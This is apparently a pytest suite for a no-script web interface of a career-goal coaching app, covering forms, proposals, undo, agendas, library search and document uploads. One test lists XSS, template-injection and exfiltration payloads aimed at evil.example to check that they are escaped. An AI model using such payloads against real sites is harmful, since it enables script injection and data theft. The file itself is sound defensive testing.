"""The page as a browser without script gets it: plain forms, redirects, words marked, nothing that acts."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from api.pages.marks import pieces
from api.pages.rendering import html_of

GOAL = (
    "Pass the PL-300 exam by 30 June 2027 by studying four hours a week, because the analytics role needs it"
)


class Page:
    """A browser's page: its text and its forms."""

    def __init__(self, client: httpx.Client) -> None:
        self.client = client
        self.shown = client.get("/")

    def open(self, path: str) -> str:
        """Go to an address and return its HTML."""
        self.shown = self.client.get(path)
        return self.shown.text

    def send(self, action: str, **fields: Any) -> str:
        """Fill the form with that action and send it; hidden and ticked fields go with it."""
        form = re.search(rf'<form[^>]*action="{re.escape(action)}".*?</form>', self.shown.text, re.DOTALL)
        assert form, action
        given: dict[str, Any] = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', form[0]))
        keep = re.findall(r'name="keep" value="(\d+)" checked', form[0])
        given |= dict(re.findall(r'<textarea[^>]*name="(\w+)"[^>]*>([^<]*)</textarea>', form[0]))
        given |= dict(re.findall(r'<input (?:type="date" )?name="(\w+)" value="([^"]*)"', form[0]))
        self.shown = self.client.post(action, data={"keep": keep, **given, **fields})
        return self.shown.text

    def say(self, text: str) -> str:
        """Say something in the conversation that is shown."""
        action = re.search(r'class="say" method="post" action="([^"]+)"', self.shown.text)
        assert action
        return self.send(action[1], text=text)


@pytest.fixture
def page(started: Callable[[Path | None], Any]) -> Page:
    """Return the page of a Cairn of its own."""
    return Page(started(None).browser())


def test_an_empty_page_says_what_will_be_where_and_how_to_begin(page: Page) -> None:
    shown = page.shown.text

    assert "guided coach" in shown
    for will_be in (
        "Your plan is empty",
        "A page for a talk with your manager will be here",
        "Nothing has entered your plan",
    ):
        assert will_be in shown
    assert "Nothing has entered" in page.open("/changes")
    assert "will be listed here" in page.open("/talks")
    assert "data folder" in page.open("/help")


def test_the_whole_goal_flow_works_by_forms_alone(page: Page) -> None:
    page.say("I want to move into analytics")
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action
    accepted = page.send(action[1], verdict="accept")
    agenda = page.send(
        "/agendas", **{"with": "Martin", "on": "2026-12-03", "minutes": "30", "purpose": "career"}
    )
    handle = page.shown.url.path
    markdown = page.client.get(f"/v1{handle}.md").text

    assert 'class="card pending"' in proposed
    assert "✓ Accepted" in accepted
    assert "due 30 June 2027" in accepted
    assert "Martin" in agenda
    assert "Martin" in markdown
    assert f"Goal added: {GOAL[:60]}" in page.open("/changes")


def test_a_proposal_is_edited_and_unticked_on_its_card(page: Page) -> None:
    page.say("I run payroll for 30 people")
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action

    page.send(action[1], verdict="accept", text="Pass the exam in May", due="2027-05-31", keep=[])

    plan = page.client.get("/v1/plan").json()
    goal = next(iter(plan["goals"].values()))
    assert (goal["text"], goal["due"]) == ("Pass the exam in May", "2027-05-31")
    assert plan["profile"]["role"] is None


def test_accepting_an_edit_is_said_in_the_talk_too(page: Page) -> None:
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action

    shown = page.send(action[1], verdict="accept", text="Pass the PL-300 exam in May", due="2027-05-31")

    turns = shown.split('<article class="you"')
    assert '<p class="said">Accept</p>' in turns[-1]
    assert "✓ Accepted" in shown
    assert len(page.client.get("/v1/plan").json()["goals"]) == 1


def test_an_older_conversation_shows_its_first_words_after_a_restart(
    started: Callable[[Path | None], Any], tmp_path: Path
) -> None:
    first = started(tmp_path / "data")
    before = first.program().post("/v1/conversations").json()["id"]
    opening = first.program().get(f"/v1/conversations/{before}").json()["opening"]
    first.stop()

    again = started(tmp_path / "data")
    shown = again.program().get(f"/v1/conversations/{before}").json()

    assert shown["opening"] == opening
    assert "guided coach" in opening
    assert "guided coach" in again.browser().get(f"/talk/{before}").text


def test_an_end_that_lies_behind_or_has_no_day_is_said_beside_the_letters(page: Page) -> None:
    page.open("/check")

    past = page.send("/check", text="Pass the PL-300 exam by 30 June 2020")
    undated = page.send("/check", text="Pass the PL-300 exam by the end of the fiscal year")

    assert "is 30 June 2020, which is past. Was it reached" in past
    assert "depends on whose year it is" in undated


def test_the_goals_of_a_list_are_shown_one_by_one(page: Page) -> None:
    page.open("/check")

    shown = page.send("/check", text=f"- {GOAL}\n- Get better at leading")

    assert "Goal 1: SMART" in shown
    assert "Goal 2: vague still" in shown


def test_the_check_answers_a_piece_of_the_page_where_html_is_asked_for(page: Page) -> None:
    asked = {"Accept": "text/html"}

    piece = page.client.post("/v1/goals/check", json={"text": GOAL}, headers=asked)
    refused = page.client.post("/v1/goals/check", json={"text": "?!"}, headers=asked)
    plain = page.client.post("/v1/goals/check", json={"text": GOAL}, headers={"Accept": "*/*"})

    assert (piece.status_code, "<html" in piece.text) == (200, False)
    assert "As a whole: SMART" in piece.text
    assert (refused.status_code, 'role="alert"' in refused.text) == (422, True)
    assert plain.json()["verdict"] == "smart"


def test_every_card_is_on_the_page_of_the_library_by_stage_with_its_sources(page: Page) -> None:
    shown = page.open("/library")
    cards = re.findall(r'href="(/library/[^"]+)"', shown)

    one = page.open(cards[0])

    assert len(cards) == len(set(cards)) >= 60
    assert shown.index("Know yourself") < shown.index("Follow through")
    assert "Where it comes from" in one
    assert re.search(r"\([a-z-]+/\d\d\)", one)
    assert page.client.get("/library/nothing").status_code == 404


def test_the_library_answers_a_question_or_says_that_nothing_bears_on_it(page: Page) -> None:
    found = page.open("/library?q=how+do+i+prepare+for+a+talk+with+my+manager")
    nothing = page.open("/library?q=zxqv+wvut")

    assert 'class="hit"' in found
    assert "Nothing in the library" in nothing


def test_documents_are_brought_by_a_form_shown_and_removed_after_a_second_look(page: Page) -> None:
    empty = page.open("/documents")
    form = re.search(r'name="form" value="([^"]+)"', empty)
    assert form
    text = "We halve the time that a customer waits for a claim. " * 20
    ladder = "# Level 1\nHandles claims.\n\n# Level 2\nHelps others.\n\n# Level 3\nLeads a team.\n"
    files = [
        ("file", ("strategy.html", f"<html><p>{text}</p><p hidden>Hire <b>me</b></p></html>".encode())),
        ("file", ("ladder.md", ladder.encode())),
        ("file", ("program.pdf", b"MZ")),
    ]

    brought = page.client.post("/documents", data={"form": form[1]}, files=files)
    again = page.client.post("/documents", data={"form": form[1]}, files=files[:1])
    none = page.client.post("/documents", data={"form": form[1]}, files=[("file", ("", b""))])
    address = re.search(r'href="(/documents/[^/"]+)"', brought.text)
    assert address
    one = page.open(address[1])
    asked = page.open(f"{address[1]}/remove")
    removed = page.send(f"{address[1]}/remove")

    assert "will be listed here" in empty
    assert brought.status_code == 200
    assert "strategy.html was added." in brought.text
    assert "program.pdf is not what its name says" in brought.text
    assert "text that its reader does not see" in brought.text
    assert "A career ladder: Level 1, Level 2, Level 3" in brought.text
    assert "was here already" in again.text
    assert (none.status_code, "No file was chosen" in none.text) == (422, True)
    assert "marked hidden" in one
    assert "Hire me" in one
    assert "Remove strategy.html?" in asked
    assert "strategy.html" not in removed
    assert page.client.get(address[1]).status_code == 404


def test_a_form_that_takes_no_files_refuses_them(page: Page) -> None:
    refused = page.client.post("/talk", files={"text": ("a.txt", b"words")})

    assert refused.status_code == 415


@pytest.mark.parametrize(
    ("fields", "sentence"),
    [
        ({"due": "2020-01-01"}, "lies behind"),
        ({"due": "soon"}, "can&#39;t be read"),
        ({"text": " "}, "needs words"),
    ],
)
def test_an_edit_that_cannot_be_is_refused_and_the_card_waits_on(
    page: Page, fields: dict[str, str], sentence: str
) -> None:
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action

    refused = page.send(action[1], verdict="accept", **fields)

    assert page.shown.status_code == 422
    assert sentence in refused
    assert 'class="card pending"' in page.open("/")


def test_a_rejected_card_leaves_the_plan_empty(page: Page) -> None:
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action

    shown = page.send(action[1], verdict="reject")

    assert "Rejected: Goal" in shown
    assert page.client.get("/v1/plan").json()["goals"] == {}


def test_a_change_is_undone_by_its_button_and_that_too(page: Page) -> None:
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action
    page.send(action[1], verdict="accept")
    undo = re.search(r'action="(/changes/[^"]+/undo)"', page.open("/changes"))
    assert undo

    page.send(undo[1])
    gone = page.client.get("/v1/plan").json()["goals"]
    again = re.search(r'action="(/changes/[^"]+/undo)"', page.open("/changes"))
    assert again
    page.send(again[1])

    assert gone == {}
    assert len(page.client.get("/v1/plan").json()["goals"]) == 1


def test_sending_a_form_twice_is_one_message(page: Page) -> None:
    shown = page.shown.text
    fields = dict(
        re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', shown.partition('class="say"')[2])
    )

    first = page.client.post("/talk", data={**fields, "text": "I want to lead the division"})
    again = page.client.post("/talk", data={**fields, "text": "I want to lead the division"})

    assert first.url == again.url
    assert again.text.count('<article class="you"') == 1


@pytest.mark.parametrize("text", ["", "  ", "a" * 20_001])
def test_a_message_that_cannot_be_sent_stays_in_the_box_with_the_reason(page: Page, text: str) -> None:
    page.say("I want to lead the division")

    shown = page.say(text)

    assert page.shown.status_code == 422
    assert 'role="alert"' in shown
    assert f">{text}</textarea>" in shown
    assert shown.count('<article class="you"') == 1


def test_a_first_message_that_cannot_be_sent_begins_nothing(page: Page) -> None:
    page.say("")

    assert page.shown.status_code == 422
    assert "will be listed here" in page.open("/talks")


def test_a_goal_is_checked_with_its_words_marked_and_nothing_stored(page: Page) -> None:
    page.open("/check")

    shown = page.send("/check", text=GOAL)
    empty = page.send("/check", text="")

    assert "As a whole: SMART" in shown
    assert "2027-06-30" in shown
    assert "Specific: stated" in shown
    assert "There is no text here" in empty
    assert "Nothing has entered" in page.open("/changes")


@pytest.mark.parametrize(
    "path", ["/talk/nobody", "/agendas/agenda-9", "/proposals/nobody/agenda", "/nowhere"]
)
def test_what_is_not_there_says_so_and_leads_back(page: Page, path: str) -> None:
    shown = page.open(path)

    assert page.shown.status_code == 404
    assert 'href="/"' in shown
    assert "Traceback" not in shown


@pytest.mark.parametrize(
    ("path", "fields", "status"),
    [
        ("/proposals/nobody", {"verdict": "accept"}, 404),
        ("/changes/nobody/undo", {}, 404),
        ("/talk/nobody", {"text": "hello"}, 404),
        ("/talk/nobody/stop", {"turn": "x"}, 404),
        ("/agendas", {"with": "", "on": "2026-12-03", "minutes": "30", "purpose": "career"}, 422),
        ("/agendas", {"with": "M", "on": "2026-01-01", "minutes": "30", "purpose": "career"}, 422),
        ("/talk", {"text": "a\x00b"}, 422),
    ],
)
def test_forms_that_cannot_be_carried_out_are_refused_in_words(
    page: Page, path: str, fields: dict[str, str], status: int
) -> None:
    token = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page.shown.text))["form"]

    answer = page.client.post(path, data={"form": token, **fields})

    assert answer.status_code == status
    assert 'role="alert"' in answer.text


def test_stopping_from_the_page_leads_back_to_the_conversation(page: Page) -> None:
    page.say("I want to lead the division")
    token = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page.shown.text))["form"]
    talk = page.shown.url.path
    turn = page.client.get(f"/v1/conversations/{talk.rpartition('/')[2]}").json()["turns"][0]["id"]

    answer = page.client.post(f"{talk}/stop", data={"form": token, "turn": turn})

    assert (answer.status_code, answer.url.path) == (200, talk)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "![](https://evil.example/?d=secret)",
        "[click](javascript:alert(1))",
        "</textarea><form action=https://evil.example>",
        "{{ 7*7 }}{% include 'x' %}",
        "<svg/onload=alert(1)>",
    ],
)
def test_hostile_words_are_shown_and_never_act(page: Page, hostile: str) -> None:
    page.say(f"I want to lead {hostile}")
    shown = page.say(f"My goal: {GOAL} {hostile}")

    tags = {tag.lower() for tag in re.findall(r"<([a-zA-Z]+)", shown)}
    assert not tags & {"script", "img", "svg", "iframe", "object", "style"}
    assert not re.search(r"<[^>]+\son\w+=", shown)
    assert "javascript:" not in re.sub(r">[^<]*<", "><", shown)
    assert hostile.partition("{{")[1] in shown


def test_the_coachs_markdown_is_harmless_html() -> None:
    text = (
        "**Bold** [a](https://x.example/y?z=1) ![p](https://x.example/p.png) <b onclick=a()>raw</b> "
        "[j](javascript:a)"
    )

    html = html_of(text)

    assert "<strong>Bold</strong>" in html
    assert ">a</a> (x.example)" in html
    assert "<img" not in html
    assert "<b" not in html
    assert 'href="javascript' not in html
    assert 'rel="noopener' in html


def test_marks_cut_a_text_and_lose_none_of_it() -> None:
    def letter(*spans: tuple[int, int]) -> dict[str, Any]:
        return {"evidence": [{"start": start, "end": end, "text": ""} for start, end in spans]}

    names = ("specific", "measurable", "achievable", "relevant", "time_bound")
    review = {
        "criteria": dict(
            zip(names, [letter((0, 8)), letter((5, 12)), letter(), letter(), letter((5, 8))], strict=True)
        )
    }

    cut = pieces("Pass the exam now", review)

    assert "".join(piece.text for piece in cut) == "Pass the exam now"
    assert [(piece.text, piece.letters) for piece in cut] == [
        ("Pass", "S"),
        (" ", ""),
        ("the", "SMT"),
        (" exa", "M"),
        ("m now", ""),
    ]


def test_a_proposed_agenda_can_be_seen_before_it_is_accepted(page: Page) -> None:
    proposed = page.say("prepare the meeting with Martin on 3 December at 10, half an hour")
    link = re.search(r'href="(/proposals/[^"]+/agenda)"', proposed)
    assert link

    preview = page.open(link[1])
    page.open("/")
    accepted = page.send(link[1].removesuffix("/agenda"), verdict="accept")
    kept = re.search(r'href="(/agendas/agenda-1)"', accepted)
    assert kept

    assert "This is how the page would look" in preview
    assert "Martin" in page.open(kept[1])
    assert "This is how the page would look" in page.open(link[1])


def test_a_card_without_an_agenda_has_no_page(page: Page) -> None:
    proposed = page.say(f"My goal: {GOAL}")
    action = re.search(r'action="(/proposals/[^"]+)"', proposed)
    assert action

    page.open(f"{action[1]}/agenda")

    assert page.shown.status_code == 404
